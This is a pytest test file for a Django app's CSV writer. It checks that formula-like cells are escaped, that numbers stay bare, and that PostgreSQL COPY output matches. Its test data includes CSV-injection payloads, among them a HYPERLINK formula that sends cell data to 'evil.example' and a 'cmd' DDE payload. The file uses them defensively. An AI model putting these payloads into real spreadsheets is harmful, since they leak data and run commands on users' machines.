"""The one CSV writer (apps/core/csv_files.py): text a spreadsheet would run as a formula is
written as text; numbers stay numbers. A query's rows come out the same from PostgreSQL's COPY
as from CsvWriter."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from pathlib import Path

import pytest
from django.conf import settings
from django.db import connection
from django.db.models import F

from apps.core.csv_files import CsvColumn, CsvWriter, csv_copy_query, csv_select_sql, csv_stream_query
from apps.products.models import Product
from tests.factories import ProductFactory

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def _written(*rows: list[object]) -> str:
    text = io.StringIO(newline="")
    writer = CsvWriter(text)
    for row in rows:
        writer.writerow(row)
    return text.getvalue()


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_cell_that_starts_like_a_formula_is_written_as_text_with_a_leading_quote(formula):
    assert list(csv.reader(io.StringIO(_written(["ok", formula]), newline=""))) == [["ok", f"'{formula}"]]


def test_numbers_negative_ones_too_are_written_as_bare_numbers():
    assert _written([-5, Decimal("-5.00"), -2.5, 0]) == "-5,-5.00,-2.5,0\r\n"


def test_text_is_quoted_so_a_separator_inside_it_cannot_start_a_formula_cell():
    assert _written(["Desk, =1+1", None]) == '"Desk, =1+1",""\r\n'


def test_nothing_else_in_the_code_writes_csv_without_it():
    base = Path(settings.BASE_DIR)
    writers = [
        str(path.relative_to(base))
        for folder in ("apps", "project", "scripts")
        for path in (base / folder).rglob("*.py")
        if "csv.writer(" in (source := path.read_text()) or "csv.DictWriter(" in source or "to stdout" in source.lower()
    ]
    # Its csv_copy_query is the one sanctioned COPY ... TO STDOUT: it applies CsvWriter's rules in SQL.
    assert writers == ["apps/core/csv_files.py"]


HOSTILE_NAMES = [
    *FORMULAS,
    "Desk, =1+1",
    'A "quoted" lamp',
    "two\nlines",
    "'already quoted",
    "Plain chair",
    " =leading space",
]
PRODUCT_COLUMNS = [
    CsvColumn("id", numeric=True),
    CsvColumn("name"),
    CsvColumn("price", numeric=True, decimal_places=2),
    CsvColumn("stock_over_20", numeric=True),
]


def _products():
    over = F("stock") - 20
    return (
        Product.objects.order_by("id").annotate(stock_over_20=over).values_list("id", "name", "price", "stock_over_20")
    )


def _written_by(write) -> list[list[str]]:
    file = io.BytesIO()
    rows = write(file, rows=_products(), columns=PRODUCT_COLUMNS)
    parsed = list(csv.reader(io.StringIO(file.getvalue().decode(), newline="")))
    assert rows == len(parsed) - 1
    return parsed


@pytest.mark.django_db
def test_copy_writes_hostile_text_exactly_as_csvwriter_does(postgres):
    for name in HOSTILE_NAMES:
        ProductFactory(name=name, price=Decimal("0.5") if name == "+1" else Decimal("12.5"))

    copied = _written_by(csv_copy_query)

    assert copied == _written_by(csv_stream_query)
    assert copied[0] == ["id", "name", "price", "stock_over_20"]
    assert [row[1] for row in copied[1:]] == [
        f"'{name}" if name.startswith(("=", "+", "-", "@", "\t", "\r")) else name for name in HOSTILE_NAMES
    ]
    assert {(row[2], row[3]) for row in copied[1:]} == {("0.50", "-10"), ("12.50", "-10")}


@pytest.mark.django_db
def test_copy_quotes_text_and_leaves_numbers_bare(postgres):
    ProductFactory(name="Desk", price=Decimal("5.00"))
    file = io.BytesIO()

    csv_copy_query(file, rows=_products(), columns=PRODUCT_COLUMNS)

    product_id = Product.objects.get().pk
    assert file.getvalue().decode().splitlines()[1] == f'{product_id},"Desk",5.00,-10'


def _union_of_cheap_and_dear(*, ordering: str):
    part = Product.objects.values_list("id", "name")
    cheap, dear = part.filter(price__lt=5).order_by(ordering), part.filter(price__gte=5).order_by(ordering)
    return cheap.union(dear, all=True).order_by(ordering)


@pytest.mark.django_db
@pytest.mark.parametrize("ordering", ["id", "-id"])
def test_copy_writes_an_ordered_union_in_its_order(postgres, ordering):
    products = [ProductFactory(price=Decimal(price)) for price in ("1.00", "9.00", "2.00", "8.00")]
    file = io.BytesIO()

    written = csv_copy_query(file, rows=_union_of_cheap_and_dear(ordering=ordering), columns=PRODUCT_COLUMNS[:2])

    ids = [int(row[0]) for row in list(csv.reader(io.StringIO(file.getvalue().decode(), newline="")))[1:]]
    assert written == 4
    assert ids == sorted((product.pk for product in products), reverse=ordering.startswith("-"))


@pytest.mark.django_db
def test_copy_orders_a_union_from_outside_so_postgresql_merges_its_ordered_parts(postgres):
    """PostgreSQL sorts an ordered UNION's whole result again; ordered from a query around it, it
    can merge the parts (Merge Append), as it does for the 1.8M rows of a sales report."""
    ProductFactory.create_batch(3)
    select, params = csv_select_sql(rows=_union_of_cheap_and_dear(ordering="id"), columns=PRODUCT_COLUMNS[:2])

    with connection.cursor() as cursor:
        # Sorting a few rows costs next to nothing: make any Sort dear, so the plan shows whether
        # the halves can be merged at all, as the planner does for 1.8M rows on its own.
        cursor.execute("SET LOCAL enable_sort = off")
        cursor.execute(f"EXPLAIN {select}", params)
        plan = [line for (line,) in cursor.fetchall()]

    nodes = [line.strip().removeprefix("->  ").split("  (")[0] for line in plan if "(cost=" in line]
    assert select.endswith('ORDER BY query."id"')
    assert next(node for node in nodes if node != "Result") == "Merge Append", "\n".join(plan)  # no Sort above it
